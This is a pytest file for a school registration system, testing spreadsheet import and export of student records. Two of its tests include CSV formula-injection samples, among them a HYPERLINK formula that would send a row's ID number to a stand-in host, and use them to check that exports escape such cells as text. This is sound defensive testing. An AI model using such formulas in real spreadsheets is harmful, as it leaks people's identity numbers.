"""Importing registrations the way clerks really fill spreadsheets, and exporting them back."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner
from openpyxl import Workbook, load_workbook

from gongjiang.cli import main
from gongjiang.core.actors import Actor
from gongjiang.core.imports import write_error_report
from gongjiang.core.models import AuditEntry
from gongjiang.core.validators import resident_id_check_digit
from gongjiang.directory.models import Organisation, Person
from gongjiang.registry import services
from gongjiang.registry.models import Registration, RegistrationStatus, SchoolClass
from gongjiang.registry.services.imports import HEADERS, registrations_export, registrations_import
from tests.registry.conftest import file_major

HEADER = ["姓名", "身份证号", "专业代码", "专业名称", "班级", "班级层次", "学习形式", "入学日期", "联系电话", "民族"]


def rid(birth: str, sequence: int, region: str = "150203") -> str:
    first17 = f"{region}{birth}{sequence:03d}"
    return first17 + resident_id_check_digit(first17)


def broken(number: str) -> str:
    """The same number with a wrong check character."""
    return number[:-1] + ("1" if number[-1] != "1" else "2")


def xlsx(rows: list[list[Any]], header: list[str] = HEADER, title: str | None = None) -> io.BytesIO:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    if title:
        sheet.append([title])
    sheet.append(header)
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    buffer.seek(0)
    return buffer


@pytest.fixture
def school(actor_of: Callable[[str], Actor], world: dict[str, Organisation]) -> Organisation:
    file_major(actor_of, world["school"], "school", "0102", ["intermediate", "senior"])
    file_major(actor_of, world["school"], "school", "0401", ["intermediate"])
    return world["school"]


def run_import(actor: Actor, school: Organisation, data: io.BytesIO, name: str = "学籍.xlsx", **kw: Any) -> Any:
    data.seek(0)
    return registrations_import(actor=actor, school=school, source=data, filename=name, **kw)


MESSY = [
    # full-width digits in the number, spaces, a lowercase x, an Excel serial date, short level and form names
    ["张 伟", " " + rid("20080504", 101).replace("1", "１") + " ", "0102", "", "2025级数控1班", "高级", "全日", 45901, "13912345678", "汉族"],
    ["李娜", rid("20071130", 102), "", "数控加工（数控车工）", "2025级数控1班", "高级工班", "全日制", "2025.09.01", "", "蒙古族"],
    ["王芳", rid("20090101", 104), "0401", "汽车维修", "2025级汽修1班", "中级工", "全日制", "2025年9月1日", "", ""],
    ["赵强", rid("19950607", 201).lower(), "0401", "", "2025汽修在职班", "中级", "非全日制", "2025/9/1", "0472-5123456", ""],
]  # fmt: skip


def test_a_messy_workbook_imports_and_reimporting_it_changes_nothing(
    actor_of: Callable[[str], Actor], school: Organisation
) -> None:
    clerk = actor_of("school")
    data = xlsx(MESSY, title="包头机电技师学院2025级新生名册")
    report = run_import(clerk, school, data)
    assert report.errors == []
    assert (report.rows, report.created, report.updated, report.unchanged) == (4, 4, 0, 0)
    zhang = Person.objects.get(name="张伟")
    assert zhang.birth_date == dt.date(2008, 5, 4) and zhang.sex == "M"
    registration = Registration.objects.get(person=zhang)
    assert registration.status == RegistrationStatus.PENDING  # waits for the bureau like any other
    assert registration.enrolled_on == dt.date(2025, 9, 1)
    cnc = SchoolClass.objects.get(school=school, name="2025级数控1班")
    assert (cnc.class_level, cnc.form, cnc.cohort_year) == ("senior", "full_time", 2025)
    assert SchoolClass.objects.get(name="2025汽修在职班").form == "part_time"
    assert AuditEntry.objects.filter(action="registration.create", scope_organisation_code=school.code).count() == 4
    # The classes the file named that the school lacked were made, and the report says which.
    assert "2025级数控1班（2025级）" in report.new_classes
    again = run_import(clerk, school, data)
    assert (again.created, again.updated, again.unchanged, again.errors) == (0, 0, 4, [])
    assert again.new_classes == []
    assert Registration.objects.filter(school=school).count() == 4


def test_a_dry_run_reports_the_same_and_writes_nothing(actor_of: Callable[[str], Actor], school: Organisation) -> None:
    report = run_import(actor_of("school"), school, xlsx(MESSY), dry_run=True)
    assert (report.created, report.errors) == (4, [])
    assert "2025汽修在职班（2025级）" in report.new_classes  # said before any class is made
    assert not SchoolClass.objects.filter(name="2025汽修在职班").exists()
    assert not Registration.objects.filter(school=school).exists()
    assert not Person.objects.filter(name="张伟").exists()


def test_every_bad_row_is_reported_and_nothing_is_written(
    actor_of: Callable[[str], Actor],
    school: Organisation,
    world: dict[str, Organisation],
    new_person: Callable[..., Person],
    tmp_path: Path,
) -> None:
    # Someone who already studies full-time at another school.
    file_major(actor_of, world["school2"], "school2", "0401", ["intermediate"])
    elsewhere = services.class_create(
        actor=actor_of("school2"), school=world["school2"], major_code="0401", name="汽修1班",
        class_level="intermediate", form="full_time", cohort_year=2025, planned_years=3,
    )  # fmt: skip
    held = new_person(name="钱多多")
    services.registration_create(
        actor=actor_of("school2"), school_class=elsewhere, person=held, enrolled_on=dt.date(2025, 9, 1)
    )
    rows = [
        ["孙一", broken(rid("20080504", 301)), "0102", "", "数控2班", "高级", "全日制", "2025-09-01", "", ""],
        ["孙二", rid("20080504", 303), "0999", "", "数控2班", "高级", "全日制", "2025-09-01", "", ""],
        ["孙三", rid("20080504", 305), "0401", "", "汽修2班", "高级工班", "全日制", "2025-09-01", "", ""],
        ["孙四", rid("20080504", 307), "0102", "", "数控2班", "高级", "全日制", "2025-13-01", "", ""],
        ["孙五", rid("20080504", 307), "0102", "", "数控2班", "高级", "全日制", "2025-09-01", "12345", ""],
        ["钱少少", held.id_number, "0102", "", "数控2班", "高级", "全日制", "2025-09-01", "", ""],
        ["钱多多", held.id_number.replace(held.id_number, rid("20080504", 309)), "0102", "", "数控2班", "博士", "全日制", "2025-09-01", "", ""],
        ["钱多多", held.id_number, "0102", "", "数控2班", "高级", "全日制", "2025-09-01", "", ""],
        # Typed into a cell Excel formats as a number: the last digits are gone.
        ["孙六", 150203200805040000, "0102", "", "数控2班", "高级", "全日制", "2025-09-01", "", ""],
    ]  # fmt: skip
    before = (Registration.objects.count(), Person.objects.count(), SchoolClass.objects.count())
    data = xlsx(rows)
    report = run_import(actor_of("school"), school, data)
    found = {(e.row, e.column): e.message for e in report.errors}
    assert "校验位" in found[(2, "身份证号")]
    assert "专业代码“0999”未在本校备案" in found[(3, "专业代码")]
    assert "未备案高级工班" in found[(4, "班级层次")]
    assert "不是有效日期" in found[(5, "入学日期")]
    assert "与第5行重复" in found[(6, "身份证号")]
    assert "不是有效的手机或固定电话号码" in found[(6, "联系电话")]
    # A number registered at another school is not this school's to see: no word of its name or
    # school (ADR 0023); the same number twice in the file is still an error of the file.
    assert (7, "姓名") not in found and (7, "身份证号") not in found
    assert "班级层次“博士”无法识别" in found[(8, "班级层次")]
    assert "与第7行重复" in found[(9, "身份证号")]
    assert not any(world["school2"].name in message or "钱多多”" in message for message in found.values())
    assert "存成了数字" in found[(10, "身份证号")] and "文本" in found[(10, "身份证号")]
    # Beside the errors, what the one faultless row would have done (row 7); nothing is written.
    assert (report.created, report.updated, report.unchanged) == (1, 0, 0)
    assert (Registration.objects.count(), Person.objects.count(), SchoolClass.objects.count()) == before
    data.seek(0)
    out = tmp_path / "errors.xlsx"
    write_error_report(data, "学籍.xlsx", report, out, HEADERS["id_number"] + HEADERS["name"])
    sheet = load_workbook(out).active
    assert sheet is not None
    values = list(sheet.values)
    assert values[0][-1] == "错误"
    assert "校验位" in values[1][-1] and "重复" in values[5][-1]


def test_missing_columns_and_files_that_are_not_spreadsheets(
    actor_of: Callable[[str], Actor], school: Organisation
) -> None:
    report = run_import(actor_of("school"), school, xlsx([["张三", "x"]], header=["姓名", "身份证号"]))
    assert report.errors[0].row == 1 and "缺少必需的列：班级、班级层次、学习形式、入学日期" in report.errors[0].message
    report = run_import(actor_of("school"), school, io.BytesIO(b"not a workbook"), name="名册.xlsx")
    assert "不是有效的 Excel 工作簿" in report.errors[0].message
    report = run_import(actor_of("school"), school, io.BytesIO(b"%PDF"), name="名册.pdf")
    assert "不支持的文件类型" in report.errors[0].message


def test_a_gbk_csv_with_aliases_imports(actor_of: Callable[[str], Actor], school: Organisation) -> None:
    text = "学生姓名,身份证号码,专业,班级名称,层次,学习方式,入学时间,手机号\n"
    text += f"周杰,{rid('20080808', 111)},汽车维修,汽修3班,中级工,全日制,2025-09-01,13800001111\n"
    report = run_import(actor_of("school"), school, io.BytesIO(text.encode("gbk")), name="名册.csv")
    assert (report.created, report.errors) == (1, [])


def test_person_facts_that_changed_count_as_updated(actor_of: Callable[[str], Actor], school: Organisation) -> None:
    run_import(actor_of("school"), school, xlsx(MESSY))
    changed = [list(row) for row in MESSY]
    changed[1][8] = "13600000000"
    report = run_import(actor_of("school"), school, xlsx(changed))
    assert (report.created, report.updated, report.unchanged) == (0, 1, 3)
    assert Person.objects.get(name="李娜").phone == "13600000000"


def test_an_exported_file_imports_back_unchanged(
    actor_of: Callable[[str], Actor], school: Organisation, tmp_path: Path
) -> None:
    run_import(actor_of("school"), school, xlsx(MESSY))
    out = tmp_path / "export.xlsx"
    assert registrations_export(actor=actor_of("school"), school=school, target=out) == 4
    with out.open("rb") as handle:
        report = registrations_import(actor=actor_of("school"), school=school, source=handle, filename=out.name)
    assert (report.created, report.updated, report.unchanged, report.errors) == (0, 0, 4, [])
    assert AuditEntry.objects.filter(action="registration.export").exists()


def test_command_line_import_prints_the_json_report_and_fails_on_errors(school: Organisation, tmp_path: Path) -> None:
    good = tmp_path / "good.xlsx"
    good.write_bytes(xlsx(MESSY).getvalue())
    runner = CliRunner()
    result = runner.invoke(main, ["import", "registrations", str(good), "--school", school.code, "--json", "--dry-run"])
    assert result.exit_code == 0, result.output
    assert json.loads(result.output) == {
        "rows": 4, "created": 4, "updated": 0, "unchanged": 0, "errors": [],
        "new_classes": ["2025汽修在职班（2025级）", "2025级数控1班（2025级）", "2025级汽修1班（2025级）"],
    }  # fmt: skip
    bad = tmp_path / "bad.xlsx"
    bad.write_bytes(xlsx([["某人", "123", "0102", "", "班", "高级", "全日制", "2025-09-01", "", ""]]).getvalue())
    result = runner.invoke(main, ["import", "registrations", str(bad), "--school", school.code, "--json"])
    assert result.exit_code == 1
    report = json.loads(result.output)
    assert report["errors"][0] == {"row": 2, "column": "身份证号", "message": "身份证号应为18位，实际为3位。"}
    result = runner.invoke(main, ["import", "registrations", str(bad), "--school", "NOPE"])
    assert result.exit_code == 2 and "没有机构代码为“NOPE”的技工院校" in result.output


def test_imported_rows_leave_readable_audit_entries(
    actor_of: Callable[[str], Actor], world: dict[str, Organisation]
) -> None:
    file_major(actor_of, world["school"], "school", "0102", ["intermediate", "senior"])
    file_major(actor_of, world["school"], "school", "0401", ["intermediate"])
    report = registrations_import(
        actor=actor_of("school"), school=world["school"], source=xlsx(MESSY), filename="名册.xlsx"
    )
    assert report.created == len(MESSY) and not report.errors
    registration = Registration.objects.filter(school=world["school"]).order_by("pk").first()
    assert registration is not None
    entry = AuditEntry.objects.get(action="registration.create", entity_id=str(registration.pk))
    # Values come back as JSON objects (not strings), with the ids the rows were given.
    assert entry.after is not None and entry.after["person_id"] == registration.person_id
    assert entry.after["status"] == "pending" and entry.scope_organisation_id == world["school"].pk
    assert entry.at is not None and entry.entity_label.startswith(registration.person.name)


def test_formula_like_text_is_exported_as_text_and_imports_back_unchanged(
    actor_of: Callable[[str], Actor], school: Organisation, tmp_path: Path
) -> None:
    # A name that Excel would run as a link sending the row's 身份证号 away, and text starting with -.
    rows = [list(row) for row in MESSY]
    rows[0][0] = '=HYPERLINK("http://x.example/?"&B2,"点我")'
    rows[1][0] = "-李娜"
    rows[2][4] = "+2025级汽修1班"
    # A csv, as a program made it: openpyxl would write the first name as a formula.
    typed = io.StringIO()
    csv.writer(typed).writerows([HEADER, *rows])
    assert run_import(actor_of("school"), school, io.BytesIO(typed.getvalue().encode()), name="名册.csv").created == 4
    out = tmp_path / "export.xlsx"
    registrations_export(actor=actor_of("school"), school=school, target=out)
    cells = [cell for row in load_workbook(out).active.iter_rows() for cell in row]  # type: ignore[union-attr]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert {'\'=HYPERLINK("http://x.example/?"&B2,"点我")', "'-李娜", "'+2025级汽修1班"} <= {c.value for c in cells}
    with out.open("rb") as handle:
        report = registrations_import(actor=actor_of("school"), school=school, source=handle, filename=out.name)
    assert (report.created, report.updated, report.unchanged, report.errors) == (0, 0, 4, [])
    assert Person.objects.filter(name__in=['=HYPERLINK("http://x.example/?"&B2,"点我")', "-李娜"]).count() == 2


def test_the_error_workbook_writes_the_clerks_cells_as_text(
    actor_of: Callable[[str], Actor], school: Organisation, tmp_path: Path
) -> None:
    text = (
        ",".join(HEADER)
        + "\n"
        + '=1+1,"=HYPERLINK(""http://x.example/"")",0102,,1班,中级,全日制,2025-09-01,@13900000000,\n'
    )
    data = io.BytesIO(text.encode())
    report = run_import(actor_of("school"), school, data, name="名册.csv")
    assert report.errors
    out = tmp_path / "errors.xlsx"
    data.seek(0)
    write_error_report(data, "名册.csv", report, out, HEADERS["id_number"] + HEADERS["name"])
    cells = [cell for row in load_workbook(out).active.iter_rows() for cell in row]  # type: ignore[union-attr]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert "'=1+1" in {cell.value for cell in cells}
